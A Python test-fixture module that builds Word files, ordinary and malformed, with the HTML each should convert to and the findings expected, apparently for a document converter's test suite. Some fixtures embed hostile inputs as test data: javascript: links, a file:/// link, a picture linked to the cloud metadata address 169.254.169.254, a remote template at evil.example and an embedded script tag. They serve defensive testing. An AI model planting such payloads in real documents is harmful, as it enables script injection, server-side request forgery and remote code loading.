"""Word files as they come to a desk: good ones and odd ones.

Each has its maker, the text it becomes, and how often each kind of finding is told of it.
"""

from tests.articles.word.files import (
    archive,
    by,
    deleted,
    docx,
    field,
    note,
    p,
    parts_of,
    r,
    relations,
    root,
    style,
    table,
)

BOLD = "<w:b/>"
HIDDEN = "<w:vanish/>"
LINK = ("link", "hyperlink", "https://example.com/a?b=1&amp;c=2", True)
SCRIPT = ("script", "hyperlink", "javascript:alert(1)", True)
FILE = ("file", "hyperlink", "file:///C:/Users/ann/notes.docx", True)
LEVELS = "".join(
    f'<w:abstractNum w:abstractNumId="{number}">'
    + "".join(f'<w:lvl w:ilvl="{level}"><w:numFmt w:val="{kind}"/></w:lvl>' for level in range(3))
    + "</w:abstractNum>"
    for number, kind in ((1, "bullet"), (2, "decimal"))
)
NUMBERING = (
    LEVELS
    + '<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>'
    + '<w:num w:numId="2"><w:abstractNumId w:val="2"/></w:num>'
)


def item(text, number, level=0):
    marks = f'<w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="{number}"/></w:numPr>'
    return p(text, look=marks)


def styled(text, identity):
    return p(text, look=f'<w:pStyle w:val="{identity}"/>')


def mark(kind, identity):
    return f'<w:r><w:{kind}Reference w:id="{identity}"/></w:r>'


def comment(identity, text, *, date=' w:date="2026-11-20T09:30:00Z"'):
    return f'<w:comment w:id="{identity}" w:author="Bo"{date}>{p(text)}</w:comment>'


def commented(text, identity):
    return (
        f'<w:commentRangeStart w:id="{identity}"/>{r(text)}<w:commentRangeEnd w:id="{identity}"/>'
        + mark("comment", identity)
    )


def ruby(base, reading):
    return (
        f"<w:r><w:ruby><w:rt>{r(reading)}</w:rt><w:rubyBase>{r(base)}</w:rubyBase></w:ruby></w:r>"
    )


def picture(relation, *, how="embed", alt="A hall"):
    blip = f'<a:graphic><a:blip r:{how}="{relation}"/></a:graphic>'
    return (
        f'<w:r><w:drawing><wp:inline><wp:docPr descr="{alt}"/>{blip}</wp:inline></w:drawing></w:r>'
    )


def box(*paragraphs):
    """A text box as Word writes it: once for itself, once for its older self."""
    inner = f"<w:txbxContent>{''.join(paragraphs)}</w:txbxContent>"
    return (
        '<w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><wp:anchor>'
        f"<wps:wsp><wps:txbx>{inner}</wps:txbx></wps:wsp></wp:anchor></w:drawing></mc:Choice>"
        f"<mc:Fallback><w:pict><v:shape><v:textbox>{inner}</v:textbox></v:shape></w:pict>"
        "</mc:Fallback></mc:AlternateContent></w:r>"
    )


def m(text):
    return f"<m:r><m:t>{text}</m:t></m:r>"


EQUATION = (
    f"<m:oMath>{m('x')}{m('=')}<m:f><m:num>{m('a+b')}</m:num><m:den>{m('2')}</m:den></m:f>"
    f"<m:sSup><m:e>{m('c')}</m:e><m:sup>{m('2')}</m:sup></m:sSup>"
    f"<m:rad><m:deg/><m:e>{m('y')}</m:e></m:rad></m:oMath>"
)

GOOD = {
    "plain.docx": (
        lambda: docx(
            p("One &amp; two.") + p(r("Bold", BOLD), " and ", r("slanted", "<w:i/>"), ".")
        ),
        "<p>One &amp; two.</p><p><strong>Bold</strong> and <em>slanted</em>.</p>",
        {},
    ),
    "chinese.docx": (
        lambda: docx(p("　　她說：「《明報》說『好』。」") + p("　　他说：“‘好’。”——完")),
        "<p>她說：「《明報》說『好』。」</p><p>他说：“‘好’。”——完</p>",
        {},
    ),
    "headings.docx": (
        lambda: docx(
            styled("Piece", "Title") + styled("Part", "Heading1") + styled("Under", "Heading3"),
            styles=style("Title", "Title")
            + style("heading 1", "Heading1")
            + style("heading 3", "Heading3"),
        ),
        "<h2>Piece</h2><h2>Part</h2><h3>Under</h3>",
        {"heading": 3},
    ),
    "localised.docx": (
        lambda: docx(
            "".join(styled(text, text) for text in "abcdef"),
            styles=style("标题 1", "a")
            + style("標題 2", "b")
            + style("Titre 3", "c")
            + style("Überschrift 1", "d")
            + style("Own", "e", '<w:pPr><w:outlineLvl w:val="1"/></w:pPr>')
            + style("引用", "f"),
        ),
        "<h2>a</h2><h2>b</h2><h3>c</h3><h2>d</h2><h2>e</h2><blockquote><p>f</p></blockquote>",
        {"heading": 5},
    ),
    "lists.docx": (
        lambda: docx(
            item("a", 1) + item("b", 1, 1) + item("c", 1) + p("d") + item("e", 2) + item("f", 2),
            numbering=NUMBERING,
        ),
        "<ul><li><p>a</p><ul><li><p>b</p></li></ul></li><li><p>c</p></li></ul><p>d</p>"
        "<ol><li><p>e</p></li><li><p>f</p></li></ol>",
        {},
    ),
    "link.docx": (
        lambda: docx(
            p("See ", '<w:hyperlink r:id="link">' + r("this") + r(" page") + "</w:hyperlink>", "."),
            links=[LINK],
        ),
        '<p>See <a href="https://example.com/a?b=1&amp;c=2">this page</a>.</p>',
        {},
    ),
    "table.docx": (
        lambda: docx(table([p("a"), p("b")], [p("c"), table([p("d")]) + p()])),
        "<p>a | b</p><p>c</p><p>d</p>",
        {"table": 2},
    ),
    "table-of-figures.docx": (
        lambda: docx(
            table(
                [p(r("年", "<w:b/>")), p("Boxes"), p()],
                [p("2024"), p("1,200"), p("a | b")],
                [p("word " * 20), p("字")],
                [p("one"), p("two") + p("paragraphs")],
            )
        ),
        "<p><strong>年</strong> | Boxes |</p><p>2024 | 1,200 | a | b</p>"
        f"<p>{('word ' * 20).strip()}</p><p>字</p><p>one</p><p>two</p><p>paragraphs</p>",
        {"table": 1, "bold_line": 1},
    ),
    "soft-breaks.docx": (
        lambda: docx(p(r("one") + "<w:r><w:br/></w:r>" + r("two"))),
        "<p>one<br>two</p>",
        {"soft_break": 1},
    ),
    "right-to-left.docx": (
        lambda: docx(p(r("مرحبا بالعالم", "<w:rtl/>"), look="<w:bidi/>") + p("שלום")),
        "<p>مرحبا بالعالم</p><p>שלום</p>",
        {},
    ),
    "beyond-the-plane.docx": (
        lambda: docx(p("𠮷野家 👩‍🔬 🇭🇰") + p("&#x1F600;")),
        "<p>𠮷野家 👩‍🔬 🇭🇰</p><p>😀</p>",
        {},
    ),
    "longest.docx": (
        lambda: docx(p("一段文字。") * 9_999),
        "<p>一段文字。</p>" * 9_999,
        {},
    ),
}

ODD = {
    "inserted.docx": (
        lambda: docx(p("a ", by("ins", r("b")), by("ins", r(" c")), " d")),
        "<p>a b c d</p>",
        {"insertion": 1},
    ),
    "deleted.docx": (
        lambda: docx(p("a", by("del", deleted(" b")), by("del", deleted(" c"), author="Bo"))),
        "<p>a</p>",
        {"deletion": 2},
    ),
    "nested-changes.docx": (
        lambda: docx(p("a", by("ins", r(" b") + by("del", deleted(" c"), author="Bo")))),
        "<p>a b</p>",
        {"insertion": 1, "deletion": 1},
    ),
    "deleted-paragraphs.docx": (
        lambda: docx(
            p("a", mark=by("del", ""))
            + p(by("del", deleted("b")), mark=by("del", ""))
            + p("c")
            + p("last", mark=by("del", ""))
        ),
        "<p>ac</p><p>last</p>",
        {"deletion": 3},
    ),
    "inserted-paragraph.docx": (
        lambda: docx(p(by("ins", r("new")), mark=by("ins", "")) + p("old")),
        "<p>new</p><p>old</p>",
        {"insertion": 1},
    ),
    "deleted-row.docx": (
        lambda: docx(
            "<w:tbl><w:tr><w:trPr>"
            + by("del", "")
            + f"</w:trPr><w:tc>{p('gone')}</w:tc></w:tr>"
            + f"<w:tr><w:tc>{p('stays')}</w:tc></w:tr></w:tbl>"
        ),
        "<p>stays</p>",
        {"deletion": 1, "table": 1},
    ),
    "moved.docx": (
        lambda: docx(p(by("moveFrom", r("walks. "))) + p("b ", by("moveTo", r("walks. ")))),
        "<p>b walks.</p>",
        {"moved": 1, "moved_away": 1},
    ),
    "no-author.docx": (
        lambda: docx(p("a", by("ins", r("b"), author="", date=""))),
        "<p>ab</p>",
        {"insertion": 1},
    ),
    "comments.docx": (
        lambda: docx(
            p("a ", commented("word", 1), " b ", mark("comment", 2)),
            comments=comment(1, "Sure?") + comment(2, "No date", date="") + comment(3, "Nowhere"),
        ),
        "<p>a word b</p>",
        {"comment": 3},
    ),
    "hidden.docx": (
        lambda: docx(
            p("a", r("secret", HIDDEN), r("shown", '<w:vanish w:val="0"/>'))
            + p(r("by style", '<w:rStyle w:val="Ghost"/>')),
            styles=style("Ghost", "Ghost", f"<w:rPr>{HIDDEN}</w:rPr>", "character"),
        ),
        "<p>ashown</p>",
        {"hidden": 2},
    ),
    "looks.docx": (
        lambda: docx(
            p(
                r("struck", "<w:strike/>"),
                r(" white", '<w:color w:val="FFFFFF"/>'),
                r(" yellow", '<w:highlight w:val="yellow"/>'),
                r(" 着重", '<w:em w:val="dot"/>'),
                r(" lined", '<w:u w:val="single"/>'),
                r(" CO"),
                r("2", '<w:vertAlign w:val="subscript"/>'),
            )
        ),
        "<p>struck white yellow 着重 lined CO2</p>",
        {"white": 1, "struck": 1, "highlight": 1, "dots": 1, "underline": 1, "raised": 1},
    ),
    "ruby.docx": (
        lambda: docx(p("在", ruby("漢", "hàn"), ruby("字", "zì"), "里")),
        "<p>在漢字里</p>",
        {"ruby": 2},
    ),
    "fields.docx": (
        lambda: docx(
            p(
                field('HYPERLINK "https://example.com/"', "site"),
                '<w:fldSimple w:instr=" HYPERLINK &quot;mailto:a@example.com&quot; ">'
                + r(" mail")
                + "</w:fldSimple>",
                field("DATE", " 26 November"),
                field('HYPERLINK \\l "there"', " there"),
            )
        ),
        '<p><a href="https://example.com/">site</a><a href="mailto:a@example.com"> mail</a>'
        " 26 November there</p>",
        {"field": 1, "inner_link": 1},
    ),
    "nested-fields.docx": (
        lambda: docx(p(field("IF ", field("MERGEFIELD n", "3") + r("<shown>"[1:-1])), ".")),
        "<p>3shown.</p>",
        {"field": 2},
    ),
    "words-in-a-field.docx": (
        lambda: docx(
            p('<w:r><w:fldChar w:fldCharType="begin"/></w:r>', "inside", field("DATE", "now"))
            + p('<w:r><w:fldChar w:fldCharType="end"/></w:r>', "after")
        ),
        "<p>after</p>",
        {"field": 2, "cut_field": 2},
    ),
    "open-field.docx": (
        lambda: docx(p(field("DATE", "still here", separate=False, end=False)) + p("and here")),
        "<p>still here</p><p>and here</p>",
        {},
    ),
    "equation.docx": (
        lambda: docx(p("So ", EQUATION, ".") + f"<m:oMathPara>{EQUATION}</m:oMathPara>"),
        "<p>So x=(a+b)/2c^2√y.</p><p>x=(a+b)/2c^2√y</p>",
        {"equation": 2},
    ),
    "notes.docx": (
        lambda: docx(
            p("a", mark("footnote", 2), " b", mark("endnote", 1)),
            footnotes=note(2, p("First.")) + note(3, p("Never marked.")),
            endnotes=note(1, p("Last."), kind="endnote"),
        ),
        "<p>a[1] b[2]</p><p>[1] First.</p><p>[2] Last.</p>",
        {"note": 2, "loose_note": 1},
    ),
    "dangling-note.docx": (
        lambda: docx(p("a", mark("footnote", 9), " b")),
        "<p>a b</p>",
        {"lost_note": 1},
    ),
    "notes-in-a-circle.docx": (
        lambda: docx(
            p("a", mark("footnote", 1)),
            footnotes=note(1, p("see", mark("footnote", 2)))
            + note(2, p("see", mark("footnote", 1))),
        ),
        "<p>a[1]</p><p>[1] see[2]</p><p>[2] see[1]</p>",
        {"note": 2},
    ),
    "script-links.docx": (
        lambda: docx(
            p(
                '<w:hyperlink r:id="script">' + r("one") + "</w:hyperlink>",
                '<w:hyperlink r:id="file">' + r(" two") + "</w:hyperlink>",
                field('HYPERLINK "JavaScript:alert(1)"', " three"),
                '<w:hyperlink w:anchor="there">' + r(" four") + "</w:hyperlink>",
                '<w:hyperlink r:id="gone">' + r(" five") + "</w:hyperlink>",
            ),
            links=[SCRIPT, FILE],
        ),
        "<p>one two three four five</p>",
        {"link": 4, "inner_link": 1},
    ),
    "pictures.docx": (
        lambda: docx(
            p("a", picture("inside"), picture("outside", how="link", alt="Their hall")),
            links=[
                ("inside", "image", "media/one.png", False),
                ("outside", "image", "http://169.254.169.254/latest", True),
            ],
            more=[("word/media/one.png", b"never decoded")],
        ),
        "<p>a</p>",
        {"picture": 1, "linked_picture": 1},
    ),
    "text-box.docx": (
        lambda: docx(p("beside", box(p("inside"), p("the box"))) + p("after")),
        "<p>beside</p><p>inside</p><p>the box</p><p>after</p>",
        {"text_box": 1},
    ),
    "objects.docx": (
        lambda: docx(
            p("a", "<w:r><w:drawing><wp:inline><a:graphic/></wp:inline></w:drawing></w:r>")
            + p("b", '<w:r><w:object><v:shape><v:imagedata r:id="x"/></v:shape></w:object></w:r>')
            + p('<w:r><w:pict><v:shape><v:textpath string="DRAFT"/></v:shape></w:pict></w:r>')
            + p('<w:r><w:pict><v:rect o:hr="t"/></w:pict></w:r>')
        ),
        "<p>a</p><p>b</p>",
        {"object": 3},
    ),
    "controls.docx": (
        lambda: docx(
            f"<w:sdt><w:sdtContent>{p('in a control')}</w:sdtContent></w:sdt>"
            + p("<w:smartTag>" + r("in a tag") + "</w:smartTag>")
            + p(
                "<w:sdt><w:sdtPr><w:showingPlcHdr/></w:sdtPr><w:sdtContent>"
                + r("Click here")
                + "</w:sdtContent></w:sdt>"
            )
            + f"<w:customXml>{p('in custom XML')}</w:customXml>"
        ),
        "<p>in a control</p><p>in a tag</p><p>Click here</p><p>in custom XML</p>",
        {"placeholder": 1},
    ),
    "words-out-of-place.docx": (
        lambda: docx(
            "<w:tbl><w:t>in a table</w:t></w:tbl>"
            + "<w:p><w:pPr><w:t>in looks</w:t></w:pPr>"
            + r("a")
            + "<w:r><w:object><w:t>in an object</w:t></w:object></w:r>"
            + "<w:r><mc:AlternateContent><mc:Choice><w:t>new</w:t></mc:Choice>"
            + "<mc:Fallback><w:t>old</w:t></mc:Fallback></mc:AlternateContent></w:r></w:p>"
        ),
        "<p>anew</p>",
        {"table": 1, "object": 1, "elsewhere": 4},
    ),
    "changed-looks.docx": (
        lambda: docx(p(r("a", by("rPrChange", "<w:rPr/>")), "b")),
        "<p>ab</p>",
        {"format_change": 1},
    ),
    "numbered-heading.docx": (
        lambda: docx(
            p(
                "Part",
                look='<w:pStyle w:val="Heading2"/><w:numPr><w:ilvl w:val="0"/>'
                '<w:numId w:val="2"/></w:numPr>',
            ),
            numbering=NUMBERING,
        ),
        "<h2>Part</h2>",
        {"heading": 1, "numbering": 1},
    ),
    "built-in.docx": (
        lambda: docx(
            p("a") + '<w:altChunk r:id="chunk"/><w:subDoc r:id="sub"/>',
            links=[
                ("chunk", "aFChunk", "other.html", False),
                ("sub", "subDocument", "b.docx", True),
            ],
            more=[("word/other.html", "<script>alert(1)</script>")],
        ),
        "<p>a</p>",
        {"built_in": 2, "outside": 1},
    ),
    "symbols.docx": (
        lambda: docx(
            p(
                '<w:r><w:sym w:font="Symbol" w:char="F061"/></w:r>',
                '<w:r><w:sym w:font="Nobody" w:char="F0FF"/></w:r>',
                "<w:r><w:noBreakHyphen/><w:tab/></w:r>",
                "z",
            )
        ),
        "<p>α\u2011 z</p>",
        {"symbol": 1},
    ),
    "bold-line.docx": (
        lambda: docx(p("Text.") + p(r("A heading?", BOLD)) + p(r("小标题", BOLD)) + p("Text.")),
        "<p>Text.</p><p><strong>A heading?</strong></p><p><strong>小标题</strong></p><p>Text.</p>",
        {"bold_line": 1},
    ),
    "straight-quotes.docx": (
        lambda: docx(p('他说"好"。') + p('She said "good".')),
        '<p>他说"好"。</p><p>She said "good".</p>',
        {"quotes": 1},
    ),
    "heads-and-feet.docx": (
        lambda: docx(p("a"), header=p("Embargoed until Friday"), footer=p(field("PAGE", "1"))),
        "<p>a</p>",
        {"header": 1},
    ),
    "template-from-elsewhere.docx": (
        lambda: docx(
            p("a"),
            settings="",
            more=[
                (
                    "word/_rels/settings.xml.rels",
                    relations(("t", "attachedTemplate", "https://evil.example/t.dotm", True)),
                )
            ],
        ),
        "<p>a</p>",
        {"outside": 1},
    ),
    "properties.docx": (
        lambda: docx(
            p("a"),
            more=[
                (
                    "docProps/core.xml",
                    '<c:x xmlns:c="http://schemas.openxmlformats.org/package/2006/metadata/'
                    'core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">'
                    "<dc:creator>Ann</dc:creator><c:lastModifiedBy>Bo</c:lastModifiedBy></c:x>",
                )
            ],
        ),
        "<p>a</p>",
        {"properties": 2},
    ),
    "strict.docx": (
        lambda: archive(
            (
                name,
                part.replace(
                    "http://schemas.openxmlformats.org/wordprocessingml/2006/main",
                    "http://purl.oclc.org/ooxml/wordprocessingml/main",
                ).replace(
                    "http://schemas.openxmlformats.org/officeDocument/2006/relationships",
                    "http://purl.oclc.org/ooxml/officeDocument/relationships",
                ),
            )
            for name, part in parts_of(p("strict"))
        ),
        "<p>strict</p>",
        {},
    ),
    "utf-16.docx": (
        lambda: archive(
            (name, part.replace("UTF-8", "UTF-16").encode("utf-16") if "main" in part else part)
            for name, part in parts_of(p("sixteen 字"))
        ),
        "<p>sixteen 字</p>",
        {},
    ),
    "bare.docx": (
        lambda: archive(
            [
                ("[Content_Types].xml", "<Types/>"),
                ("word/document.xml", root("document", f"<w:body>{p('bare')}</w:body>")),
            ]
        ),
        "<p>bare</p>",
        {},
    ),
    "styles-in-a-circle.docx": (
        lambda: docx(
            styled("a", "A"),
            styles=style("A", "A", '<w:basedOn w:val="B"/>')
            + style("B", "B", '<w:basedOn w:val="A"/>'),
        ),
        "<p>a</p>",
        {},
    ),
    "markup-as-words.docx": (
        lambda: docx(p("&lt;script&gt;alert(1)&lt;/script&gt; &lt;b onclick=x&gt;")),
        "<p>&lt;script&gt;alert(1)&lt;/script&gt; &lt;b onclick=x&gt;</p>",
        {},
    ),
    "empty.docx": (lambda: docx(p()), "", {}),
}
